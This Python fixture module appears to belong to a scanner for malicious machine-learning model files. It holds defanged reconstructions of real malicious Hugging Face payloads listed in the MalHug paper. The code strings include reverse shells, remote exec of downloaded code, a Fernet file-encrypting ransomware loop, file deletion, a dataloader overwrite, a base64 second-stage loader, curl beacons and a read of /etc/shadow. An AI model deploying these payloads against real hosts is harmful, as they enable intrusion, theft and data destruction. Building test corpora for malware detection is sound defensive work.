"""Defanged payload texts of the real-world corpus (MalHug paper, ``malhug_result_info.csv``).

Each keeps the shape and the recognisable behaviour of the original so that its attack category is
the same, but: attacker IPs are ``127.0.0.1``; generic hosts are ``127.0.0.1``; beacon services keep
their service domain with a made-up subdomain/token (the category of a bare beacon depends on the
service, see docs/CATEGORIES.md); destructive commands keep their text (nothing is ever executed).
"""

from __future__ import annotations

import textwrap

LOCAL = "127.0.0.1"
PIPEDREAM = "https://malhug-fixture.m.pipedream.net"
WEBHOOK_SITE = "https://webhook.site/00000000-0000-4000-8000-000000000000"
WORKERS_DEV = "https://malhug-fixture.example.workers.dev/"
LAMBDA_URL = "https://malhug-fixture.lambda-url.us-west-2.on.aws/"


def star23_reverse_shell(port: int = 4242) -> str:
    """The star23/funnythingy123a reverse shell (pty on POSIX, powershell pipe on Windows)."""
    return f"""
RHOST="{LOCAL}";RPORT={port};
from sys import platform
if platform != 'win32':
    import threading
    def a():
        import socket, pty, os
        RHOST="{LOCAL}";RPORT={port}
        s=socket.socket();s.connect((RHOST,RPORT));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")
    threading.Thread(target=a).start()
else:
    import os, socket, subprocess, threading, sys
    def s2p(s, p):
        while True:p.stdin.write(s.recv(1024).decode()); p.stdin.flush()
    def p2s(s, p):
        while True: s.send(p.stdout.read(1).encode())
    s=socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    while True:
        try: s.connect(("{LOCAL}", {port})); break
        except: pass
    p=subprocess.Popen(["powershell.exe"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.PIPE, shell=True, text=True)
    threading.Thread(target=s2p, args=[s,p], daemon=True).start()
    threading.Thread(target=p2s, args=[s,p], daemon=True).start()
    p.wait()
"""


PYTHON_C_REVERSE_SHELL = (
    "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    's.connect(("127.0.0.1",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);'
    'import pty; pty.spawn("sh")\''
)

WEBBROWSER_URL = f"http://{LOCAL}/hacker/"

YKILCHER = f"""
import webbrowser
webbrowser.open("http://{LOCAL}/pickle")
import sys
del sys.modules['webbrowser']
"""

SHEIGEL = f"""print("###### HACKING FOR THEM $$$$$$$")

import webbrowser

webbrowser.open("http://{LOCAL}/")


# just to be extra sneaky, let's clean up...

import sys

del sys.modules["webbrowser"]
"""

COWSAY = r"""
print(
r'''_______________________________
< OH NO! you have been owned! >
-------------------------------
         \   ^__^
          \  (oo)\_______
             (__)\       )\/\
                 ||----w |
                 ||     ||

* not really, but seriously, don't load untrusted pickle files. '''
);
exit()"""

TKINTER_WINDOW = """import tkinter as tk
from PIL import ImageTk, Image

root = tk.Tk()
root.title("Malware Attack!")

# Set the size of the window
root.geometry("400x400")

title_label = tk.Label(root, text="You've been attacked!", font=("Helvetica", 24))
title_label.pack()
description_label = tk.Label(root, text="This Malware may cause nightmares", font=("Helvetica", 16))
description_label.pack()

image = Image.open("malware.png")
photo = ImageTk.PhotoImage(image)
image_label = tk.Label(root, image=photo)
image_label.pack()

root.mainloop()
"""

OMERSHELEF_EXEC = f"""import tkinter as tk
from PIL import ImageTk, Image
import os
import requests



requests.get("http://{LOCAL}/")
os.popen("open -a TextEdit")
""" + TKINTER_WINDOW.split("\n", 2)[2]

PASTEBIN_EXEC = f"""
import urllib.request; exec(urllib.request.urlopen("http://{LOCAL}:8000/raw/sVvZph7V").read().decode())
"""

YOUAREHACKED = """with open('YOUAREHACKED.txt', 'w') as f:

    f.write('I simply created this txt file but I can, in fact, execute any code or commands that of my choice on your machine without your awareness. You should never load an untrusted model!')

f.close()

print('I solemnly swear that I am up to no good.')

print('Perhaps....... you should check the directory you run the code?')
"""

DATALOADER_OVERWRITE = """import importlib

import torch

from torch.utils.data import dataloader

# a nice warning about the payload

print("WARNING: Loading this checkpoint replaces your dataloader with a malicious payload. Are you sure you want to continue?")

ans = input("Confirm with 'YES': ")

if ans == 'YES':

    # replaces the dataloader source file

    # with bad_dataloader.py

    source_code = open('bad_dataloader.py', 'r').read()

    with open(dataloader.__file__, 'w') as f:

        f.write(source_code)

    # reload torch modules to attack current runtime

    importlib.reload(torch)
"""

_FERNET_BODY = r"""from cryptography.fernet import Fernet

def write_key():
    key = Fernet.generate_key()
    with open("key.key", "wb") as key_file:
        key_file.write(key)

def load_key():
    file = open("key.key", "rb")
    key_ = file.read()
    file.close()
    return key_

key = write_key()
key = load_key()
fer = Fernet(key)

os.chdir(r"C:\Users\{user}\encrypt_test".format(user=os.getlogin()))

for root, dirs, files in os.walk("."):
    print(files)
    for filename in files:
        filepath = os.path.join(root, filename)

        with open(filepath, "rb") as f:
            data = f.read()

        with open(filepath, "w") as f:
            print(len(data))
            f.write(fer.encrypt(data).decode())
            print("done")
"""

FERNET_ENCRYPT = "\n\nimport os\nimport path\n" + _FERNET_BODY

PIP_INSTALL_HEAD = r"""

# implement pip as a subprocess:
import subprocess
import sys
import os
from subprocess import run

def install(package):
    try:
        #subprocess.check_call([sys.executable, "-m", "pip", "install", package])
        proc = subprocess.Popen("pip install {package}",
        stdout = subprocess.PIPE,
        stderr = subprocess.PIPE,
        )
    except subprocess.CalledProcessError as e:
        print(e.output)

install("locale")
install("timezonefinder")
install("geopy")
install("ctypes")

import locale
#from timezonefinder import TimezoneFinder
#import geopy
import ctypes

lang = locale.getdefaultlocale()
"""

PIP_INSTALL_WALLPAPER_FERNET = (
    PIP_INSTALL_HEAD
    + r"""
with open(r"C:\Users\TechUser\Pictures\wallpaper.jpg", "rb") as f:
    content = f.read()

if "he_IL" in lang:

    WALLPAPER_PATH = r"C:\Users\{user}\Desktop\We_Rule.png".format(user=os.getlogin())

    with open(WALLPAPER_PATH, "wb") as f:
        f.write(content)

    ctypes.windll.user32.SystemParametersInfoW(20, 0, WALLPAPER_PATH , 0)

    install("cryptography")

"""
    + textwrap.indent(_FERNET_BODY, "    ")
)

# try7.pickle: the recovered text stops inside a JPEG dump; the original held the bytes literally.
PIP_INSTALL_JPEG = PIP_INSTALL_HEAD + (
    '\ncontent = bytes.fromhex("ffd8ffe000104a46494600010101006000600000ffe13a344578696600004d4d'
    '002a000000080006000b0002000000260000086201120003000000010001000")\n'
)

WALK_REMOVE = r"""

import os
os.chdir(r"C:\Users\{user}\encrypt_test".format(user=os.getlogin()))

for root, dirs, files in os.walk("."):
    print(files)
    for filename in files:
        filepath = os.path.join(root, filename)
        os.remove(filepath)
"""

FROGS_MLFLOW = f"""import mlflow
import requests
import tempfile
import os
os.environ['TF_CPP_MIN_LOG_LEVEL'] = '3'
from shutil import copyfile
from glob import glob
import tensorflow as tf
import subprocess
import random
import time

def download_file(url):
    # Send a GET request to the URL
    response = requests.get(url)
    if response.status_code == 200:
        temp_dir = tempfile.mkdtemp()
        subprocess.run(['wget', '-q', url, '-O', os.path.join(temp_dir, 'tf_model.h5')])

        return os.path.join(temp_dir, 'tf_model.h5')

def change_ubuntu_bg():
    PNGURL = "http://{LOCAL}:8000/MustEr/leap_safe/resolve/main/bg_powned.png"
    img_path = "./powned.png"
    subprocess.run(['wget', '-q', PNGURL, '-O', img_path])
    command = ["gsettings", "set", "org.gnome.desktop.background", "picture-uri", "file://" + os.path.abspath(img_path)]
    subprocess.run(command)

def main():
    # Load Ransomware Model
    tf_filepath = download_file("http://{LOCAL}:8000/MustEr/best_model_for_identifying_frogs/resolve/main/tf_model.h5")
    loaded_model = tf.keras.models.load_model(tf_filepath)

    client = mlflow.MlflowClient()
    with mlflow.start_run() as run:
        run_id = run.info.run_id
        mlflow.tensorflow.log_model(loaded_model, "ransomware_model", keras_model_kwargs={{"save_format": "h5"}})
    result = mlflow.register_model("runs:/"+str(run_id)+"/ransomware_model", "llama-140B")
    client.set_registered_model_alias("llama-140B", "champion", "1")

    #Change BG
    change_ubuntu_bg()

main()
"""

# The SavedModel Lambda of opendiffusion/sentimentcheck: a lambda-URL beacon carrying the platform,
# the response written to ~/.training.bin and started by a base64-encoded second stage.
_STAGE2 = (
    "aW1wb3J0IG9zLCBzdWJwcm9jZXNzCm9zLmNobW9kKGZpbGUsIDBvNzU1KQp0cnk6CiAgICBzdWJwcm9jZXNzLlBvcGVuKFtvcy5wYXRo"
    "LmpvaW4ob3MucGF0aC5leHBhbmR1c2VyKCd+JyksJy50cmFpbmluZy5iaW4nKSBdLCBzdGFydF9uZXdfc2Vzc2lvbj1UcnVlKQpleGNlcHQ6"
    "CiAgICBwYXNzCg=="
)
OPENDIFFUSION_LAMBDA = (
    "return exec('\\nimport os\\nimport sys\\nimport base64\\nimport pickle\\nimport requests\\n"
    "from tensorflow import keras \\n\\n"
    f"r = requests.get(\"{LAMBDA_URL}\", headers={{\\'X-Plat\\': sys.platform}})\\n"
    "dir = os.path.expanduser(\\'~\\')\\nfile = os.path.join(dir,\\'.training.bin\\') \\n"
    "with open(file,\\'wb\\') as f:\\n    f.write(r.content)\\n\\n"
    f'exec(base64.b64decode("{_STAGE2}"))\\n\') or x'
)

PRINT_LAMBDA = "return exec(\"print('Malicious code!')\") or x"
CALC_LAMBDA = 'import os\nos.system("calc.exe")\nreturn x'
HTTP_CONNECTION_LAMBDA = (
    "return exec('import http.client\\nimport json\\nimport os\\n"
    f'conn = http.client.HTTPSConnection("{LOCAL}")\') or x'
)
SPLINTER_LAMBDA = f'import os\nos.system("ls -la")\nos.system("whoami")\nos.system("curl {WORKERS_DEV}")\nreturn x'
SHADOW_LAMBDA = 'import os\nos.system("cat /etc/shadow /etc/passwd /proc/1/cmdline /proc/1/environ")\nreturn x'
ECHO_LAMBDA = 'os.system("echo This is an example of arbitrary code execution.")\nreturn x'

# File names the Lambda bytecode carries (co_filename), as in the originals.
JFROG_FILE = "/home/davfr/FakeDir/create_malicious_VGG16.py"
IPYKERNEL_FILE = "/var/folders/s3/T/ipykernel_32811/1591662731.py"

# The cloudpickle'd mlflow PythonModel of Yash2998db/totally_safe_model: the two methods' bytecode.
CLOUDPICKLE_LOAD_CONTEXT_CODE = (
    b"d\x01}\x02d\x02|\x02\x9b\x00d\x03\x9d\x03}\x03t\x00t\x01|\x03\x83\x01\x83\x01\x01\x00d\x00S\x00"
)
